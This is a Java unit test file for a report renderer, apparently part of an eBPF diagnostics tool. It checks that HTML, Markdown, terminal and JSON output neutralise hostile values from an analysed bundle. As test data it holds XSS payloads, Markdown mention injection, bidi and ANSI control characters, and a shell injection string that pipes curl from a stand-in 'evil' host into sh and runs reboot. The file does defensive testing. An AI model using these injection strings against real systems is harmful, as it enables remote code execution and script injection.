package io.ghostmap.report;

import static io.ghostmap.evidence.AttachType.CONNECT4;
import static io.ghostmap.evidence.AttachType.GETPEERNAME4;
import static io.ghostmap.support.Attempt.attempt;
import static io.ghostmap.support.TestNode.node;
import static org.assertj.core.api.Assertions.assertThat;

import freemarker.template.TemplateModelException;
import io.ghostmap.bundle.Printable;
import io.ghostmap.bundle.UnreadableBundleException;
import io.ghostmap.cli.Analysis;
import io.ghostmap.diagnosis.Finding;
import io.ghostmap.diagnosis.RemedyStep;
import io.ghostmap.diagnosis.Verdict;
import io.ghostmap.text.Term;
import io.ghostmap.text.Term.NameKind;
import io.ghostmap.text.Text;
import java.nio.file.Path;
import java.util.List;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

/** A node whose every name is an attack on the page, the ticket, the terminal or the shell of the reader. */
final class HostileValuesTest {
    private static final String HTML = "<img src=x onerror=alert(1)></style><script>alert(2)</script>";
    private static final String MARKDOWN = "`|@everyone #1 [x](javascript:alert(1)) <b>";
    private static final String DIRECTION = "\u202e4.3.2.1\u200f";
    private static final String SHELL = "/sys/fs/cgroup/x;curl${IFS}evil|sh;$(reboot)";

    private static final List<String> ATTACKS = List.of(
            HTML,
            MARKDOWN,
            DIRECTION,
            SHELL,
            "\"><a href=javascript:alert(3)>x</a>",
            "' onclick='alert(4)",
            "\u001b[31m\u0000");

    @TempDir
    private Path folder;

    private ReportModel analyze() throws UnreadableBundleException {
        return Analysis.modelOf(node().generation("old", 27)
                .serves("172.17.93.4:8080", "172.16.149.220:8080")
                .generation("new", 144)
                .pinned()
                .serves("172.17.93.4:8080", "172.16.109.127:8080")
                .loads(160)
                .program(109, "cil_sock4_" + json(HTML + MARKDOWN), 27, 28)
                .at(SHELL)
                .link(12, CONNECT4, 109, SHELL + "/pin")
                .attach(CONNECT4, 160)
                .attach(GETPEERNAME4, 109)
                .map(7, "lru_hash", "", 38, 56, SHELL + "/" + json(HTML))
                .text(
                        "manifest.json",
                        "{\"format\":1,\"node\":\"" + json(HTML + DIRECTION)
                                + "\",\"collector\":{\"name\":\"\\u001b[2J\"}," + "\"standIns\":[\"" + json(MARKDOWN)
                                + "\"]}")
                .text("node/boot_id", "$(reboot)`id`" + "\u001b]0;x\u0007\n")
                .text("node/uname.txt", HTML + "\u001b[31m\n")
                .text(
                        "kubernetes/services.json",
                        "{\"items\":[{\"metadata\":{\"namespace\":\"" + json(HTML) + "\",\"name\":\""
                                + json(MARKDOWN + DIRECTION)
                                + "\"},\"spec\":{\"clusterIPs\":[\"172.17.93.4\"],\"ports\":[{\"port\":8080}]}}]}")
                .text("bpf/map-dumps/999.json", "{\"error\":\"" + json(HTML) + "\"}")
                .sees(attempt("10.0.0.1", "172.16.149.220:8080").unanswered())
                .write(folder));
    }

    @Test
    void attackIsReallyInTheReport() throws UnreadableBundleException {
        ReportModel model = analyze();
        assertThat(model.diagnosis().verdict().level()).isEqualTo(Verdict.Level.CRITICAL);
        assertThat(Json.of(model)).contains("onerror").contains("curl");
    }

    @Test
    void pageHoldsNoForeignElement() throws UnreadableBundleException {
        ReportModel model = analyze();
        String html = HtmlRenderer.render(model);
        Document page = Jsoup.parse(html);

        assertThat(page.select("script, img, iframe, object, embed, link, form, base, svg, [src], [style]"))
                .isEmpty();
        assertThat(page.select("*").stream()
                        .flatMap(element -> element.attributes().asList().stream())
                        .filter(attribute -> attribute.getKey().startsWith("on")))
                .isEmpty();
        assertThat(page.select("a")).allMatch(link -> link.attr("href").startsWith("#"));
        assertThat(page.select("style")).hasSize(1);
        assertThat(page.select("meta[http-equiv=Content-Security-Policy]").attr("content"))
                .startsWith("default-src 'none'; style-src 'sha256-")
                .doesNotContain("unsafe");
        assertThat(page.text()).contains("onerror=alert(1)");
        LinksTest.assertWhole(page);
    }

    /** Whatever kind of term a value is: it comes out as that text, and as nothing that a reader's program would run. */
    @ParameterizedTest
    @EnumSource
    void termIsNeitherMarkupNorADeadLink(NameKind kind) throws TemplateModelException {
        for (String first : ATTACKS) {
            for (String second : ATTACKS) {
                assertHarmless(Term.name(kind, first + second));
            }
        }
    }

    private static void assertHarmless(Term term) throws TemplateModelException {
        Text text = Text.of("before {} after", term);
        Anchors anchors = new Anchors();
        Anchors.Listed place = anchors.list(term);
        HtmlText linked = new HtmlText(anchors);
        HtmlText unlinked = new HtmlText(new Anchors());

        for (VisibleHtml.Markup markup : List.of(linked.of(text), unlinked.of(text), linked.of(place))) {
            Element body = Jsoup.parseBodyFragment(VisibleHtml.INSTANCE.getMarkupString(markup))
                    .body();
            assertThat(body.wholeText()).contains(Printable.whole(term.plain()));
            assertThat(body.select("*").not("body, span, a, wbr")).isEmpty();
            assertThat(body.select("a, span").stream()
                            .flatMap(element -> element.attributes().asList().stream())
                            .map(Attribute::getKey))
                    .isSubsetOf("class", "href", "id");
            assertThat(body.select("a").eachAttr("href"))
                    .allMatch(href -> href.equals("#" + place.id().orElseThrow()));
            assertThat(body.select("[id]").eachAttr("id")).allMatch(id -> id.matches("[a-z0-9.-]+"));
        }
        assertThat(MarkdownText.text(text).replaceAll("`[^`\n]*`", ""))
                .doesNotContainPattern("(?<!\\\\)[<*|`\\[\\]]")
                .doesNotContainPattern("[@#](?!\u200b)");
    }

    @Test
    void directionAndControlCharactersAreWrittenOut() throws UnreadableBundleException {
        ReportModel model = analyze();
        for (String text : new String[] {
            HtmlRenderer.render(model),
            MarkdownRenderer.render(model),
            TerminalRenderer.render(model),
            String.join("\n", TerminalRenderer.losses(model)),
            Json.of(model)
        }) {
            assertThat(text.replace("\n", "").codePoints().filter(c -> c != 0x200b))
                    .noneMatch(
                            c -> Character.getType(c) == Character.CONTROL || Character.getType(c) == Character.FORMAT);
        }
        assertThat(HtmlRenderer.render(model)).contains("\\u202e");
    }

    @Test
    void ticketTextMentionsNobodyAndHoldsNoHtml() throws UnreadableBundleException {
        ReportModel model = analyze();
        String outsideCode =
                MarkdownRenderer.render(model).replaceAll("(?s)```.*?```", "").replaceAll("`[^`\n]*`", "");

        assertThat(outsideCode)
                .doesNotContain("@everyone")
                .doesNotContain("#1 ")
                .doesNotContainPattern("(?<!\\\\)<");
    }

    @Test
    void commandsHoldNoTextOfTheBundle() throws UnreadableBundleException {
        ReportModel model = analyze();
        for (Finding finding : model.diagnosis().findings()) {
            for (RemedyStep step : finding.remedy()) {
                assertThat(step.command().plain())
                        .doesNotContain("curl")
                        .doesNotContain("$(reboot)")
                        .doesNotContain("`");
            }
        }
        assertThat(model.diagnosis().findings().get(0).remedy().toString()).contains("-inum");
    }

    /** As the inside of a JSON string. */
    private static String json(String text) {
        return text.replace("\\", "\\\\")
                .replace("\"", "\\\"")
                .replace("\u202e", "\\u202e")
                .replace("\u200f", "\\u200f");
    }
}
